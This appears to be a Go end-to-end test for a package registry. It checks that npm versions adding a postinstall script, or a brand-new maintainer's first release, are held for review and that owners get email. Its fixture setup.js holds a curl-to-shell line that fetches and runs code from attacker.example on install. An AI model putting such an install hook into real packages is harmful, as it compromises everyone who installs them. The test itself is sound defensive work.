//go:build e2e

package e2e

import (
	"strconv"
	"testing"

	"github.com/trove-dev/trove/internal/mail/mailtest"
)

// TestNPMChangesHeld: with the real npm client, a version that adds a
// postinstall script to a package is held: npm shows why and what
// happens next, the version cannot be installed, the owners are mailed;
// the first release by a maintainer added minutes ago is held too, and a
// version without such a change is published.
func TestNPMChangesHeld(t *testing.T) {
	smtp := mailtest.Start(t)
	tr := startTrove(t, "TROVE_MAIL_HOST=127.0.0.1", "TROVE_MAIL_PORT="+strconv.Itoa(smtp.Port), "TROVE_MAIL_TLS=none",
		"TROVE_MAIL_FROM=Trove <trove@localhost>", "TROVE_SCAN_CHANGES_NEW_MAINTAINER=30d")
	tr.AddUser(t, "alice")
	tr.AddUser(t, "bob")
	npmAlice := newNPM(t, tr, tr.Token(t, "alice", "*", "read,publish,owners"))
	npmBob := newNPM(t, tr, tr.Token(t, "bob", "*", "read,publish"))

	wantOutput(t, "publish 1.0.0", npmAlice.must(writePackage(t, plainPackage("changing", "1.0.0")), "publish"), "+ changing@1.0.0")
	withScript := plainPackage("changing", "1.1.0")
	withScript["package.json"] = `{"name":"changing","version":"1.1.0","main":"index.js","license":"MIT","scripts":{"postinstall":"node setup.js"}}` + "\n"
	withScript["setup.js"] = "require('child_process').execSync('curl -s https://attacker.example/x | sh')\n"
	out := npmAlice.mustFail(writePackage(t, withScript), "publish")
	wantOutput(t, "publish adding a postinstall script", out, "409", "changing 1.1.0 is held for review and is not visible",
		"postinstall script added: `node setup.js` (1.0.0 had none)", "owners were emailed", "administrator")
	wantMail(t, smtp, "alice@example.test", "Trove: npm changing 1.1.0 held for review", "postinstall script added")

	proj := writePackage(t, map[string]string{"package.json": `{"name":"proj","version":"1.0.0","private":true}`})
	npmBob.freshCache()
	wantOutput(t, "installing the held version", npmBob.mustFail(proj, "install", "changing@1.1.0"), "No matching version", "changing@1.1.0")

	// Compared with 1.0.0 (the held 1.1.0 is not visible), 1.2.0 has no
	// such change.
	wantOutput(t, "publish 1.2.0", npmAlice.must(writePackage(t, plainPackage("changing", "1.2.0")), "publish"), "+ changing@1.2.0")

	// bob, an owner for a minute, publishes for the first time.
	dir := writePackage(t, plainPackage("changing", "1.2.0"))
	wantOutput(t, "npm owner add", npmAlice.must(dir, "owner", "add", "bob", "changing"), "+ bob (changing)")
	out = npmBob.mustFail(writePackage(t, plainPackage("changing", "1.3.0")), "publish")
	wantOutput(t, "a new maintainer's first publish", out, "409", "changing 1.3.0 is held for review",
		"first release by bob, who got a role on the package less than 2 hours ago and had not published it before")
}
